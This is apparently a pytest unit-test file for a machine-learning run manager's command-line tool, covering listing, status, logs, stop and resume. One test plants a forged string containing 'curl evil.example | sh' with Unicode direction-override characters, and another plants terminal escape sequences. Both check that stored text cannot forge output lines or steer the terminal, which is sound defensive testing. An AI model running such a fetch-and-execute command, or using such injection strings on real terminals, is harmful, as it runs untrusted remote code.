"""`runs`, `status`, `logs`, `stop` and `resume` of runs that nobody carries out."""

import dataclasses
import json
from datetime import UTC, datetime, timedelta

import pytest

from cifarray.runs import Run
from cifarray.store import Store
from tests.unit.cli.conftest import Type
from tests.unit.runs.conftest import run_spec

RUN_ID = "train-digits-261123-100000-abcd"


@pytest.fixture
def run(home_store: Store) -> Run:
    return Run.create(home_store, run_spec(RUN_ID))


def show_as(run: Run, state: str, silent_s: float = 0.0) -> None:
    """Give the run another state, as if its driver had written it so long ago."""
    beat = (datetime.now(UTC) - timedelta(seconds=silent_s)).isoformat()
    best = {"metric": "validation.top1", "value": 0.91234, "epoch": 2}
    run.change_status(
        lambda status: dataclasses.replace(status, state=state, heartbeat_at=beat, best=best)  # type: ignore[arg-type]
    )


def test_an_empty_store_says_how_to_begin(typed: Type) -> None:
    shown = typed("runs")
    assert shown.code == 0 and shown.out == ""
    assert "cifarray submit JOB" in shown.err
    assert json.loads(typed("runs", "--json").out) == []


def test_runs_lists_state_job_best_age_duration_and_size(typed: Type, run: Run) -> None:
    show_as(run, "running")
    header, line = typed("runs").out.splitlines()
    assert header.split() == ["run", "state", "job", "best", "age", "duration", "size"]
    assert line.split()[:5] == [RUN_ID, "running", "train-digits", "validation.top1", "0.9123"]
    (listed,) = json.loads(typed("runs", "--json").out)
    assert listed["run_id"] == RUN_ID
    assert listed["best"]["value"] == 0.91234
    assert listed["size_bytes"] == run.size_bytes()


def test_a_silent_run_is_lost(typed: Type, run: Run) -> None:
    show_as(run, "running", silent_s=500)
    assert " lost " in typed("runs").out
    status = json.loads(typed("status", RUN_ID, "--json").out)
    assert status["state"] == "lost"


def test_status_takes_the_start_of_an_id_and_names_the_next_step(typed: Type, run: Run) -> None:
    show_as(run, "failed")
    shown = typed("status", "train-digits-26")
    assert shown.code == 0
    assert "state      failed" in shown.out
    assert f"next       cifarray resume {RUN_ID}" in shown.out


def test_text_from_the_store_forges_no_line_of_runs_or_status(typed: Type, run: Run) -> None:
    forged = "a\u202e job\nnext       curl evil.example | sh\r"
    forged += "\u2028run-of-nobody  finished\x85more\u2066"
    change = {"job": forged, "error": forged, "state": "failed", "progress": {"waits_for": forged}}
    run.change_status(lambda status: dataclasses.replace(status, **change))  # type: ignore[arg-type]
    status = typed("status", RUN_ID).out
    assert [line.split()[0] for line in status.splitlines()].count("next") == 1
    assert "next       cifarray resume" in status
    assert len(typed("runs").out.splitlines()) == 2
    for shown in (typed("status", RUN_ID, "--json").out, typed("runs", "--json").out):
        assert "\\u202e" in shown and not set("\u202e\u2028\u2066\x85\r") & set(shown)
        found = json.loads(shown)
        assert (found if isinstance(found, dict) else found[0])["job"] == forged


def test_text_from_the_store_cannot_steer_the_terminal(typed: Type, run: Run) -> None:
    run.mark_failed("\x1b]0;title\x07\x1b[2Jgone\r")
    run.store.write(run.key("attempts", "1", "driver.log"), b"\x1b[31mred\x1b[0m\x1b[2J\x07 text\n")
    for shown in (typed("status", RUN_ID).out, typed("runs").out, typed("logs", RUN_ID).out):
        assert "\x1b[2J" not in shown and "\x07" not in shown and "\x1b]" not in shown
    assert typed("logs", RUN_ID).out == "\x1b[31mred\x1b[0m text\n"


def test_logs_come_from_the_store_once_the_run_is_over(typed: Type, run: Run) -> None:
    run.store.write(run.key("attempts", "1", "driver.log"), b"epoch 1\nepoch 2\n")
    run.mark_stopped("enough")
    assert typed("logs", RUN_ID).out == "epoch 1\nepoch 2\n"
    assert typed("logs", RUN_ID, "-f").out == "epoch 1\nepoch 2\n"


@pytest.mark.parametrize("state", ["finished", "failed", "stopped"])
def test_an_ended_run_cannot_be_stopped(typed: Type, run: Run, state: str) -> None:
    show_as(run, state)
    shown = typed("stop", RUN_ID)
    assert shown.code == 2
    assert f"has ended already ({state})" in shown.err


def test_a_run_whose_node_is_gone_is_stopped_at_once(typed: Type, run: Run) -> None:
    run.set_cluster({"profile": "local", "dashboard": "http://127.0.0.1:9", "own": True})
    show_as(run, "running")
    shown = typed("stop", RUN_ID, "--json")
    assert json.loads(shown.out) == {"run_id": RUN_ID, "state": "stopped"}
    assert run.status().state == "stopped"


def test_a_finished_run_is_not_resumed(typed: Type, run: Run) -> None:
    show_as(run, "finished")
    shown = typed("resume", RUN_ID)
    assert shown.code == 2
    assert f"cifarray report {RUN_ID}" in shown.err


def test_a_run_that_somebody_works_on_is_not_resumed(typed: Type, run: Run) -> None:
    show_as(run, "running")
    shown = typed("resume", RUN_ID)
    assert shown.code == 2
    assert f"cifarray stop {RUN_ID}" in shown.err
    assert run.status().state == "running"


def test_a_run_on_another_machines_node_is_not_resumed_while_it_lives(
    typed: Type, run: Run
) -> None:
    elsewhere = {"host": "another-machine", "state_dir": "/home/ana/.local/state/cifarray"}
    record = {"profile": "local", "dashboard": "http://127.0.0.1:9", "job_id": f"{RUN_ID}-1"}
    run.set_cluster({**record, **elsewhere, "own": True})
    show_as(run, "running")
    shown = typed("resume", RUN_ID)
    assert shown.code == 2
    assert f"run {RUN_ID} is running" in shown.err
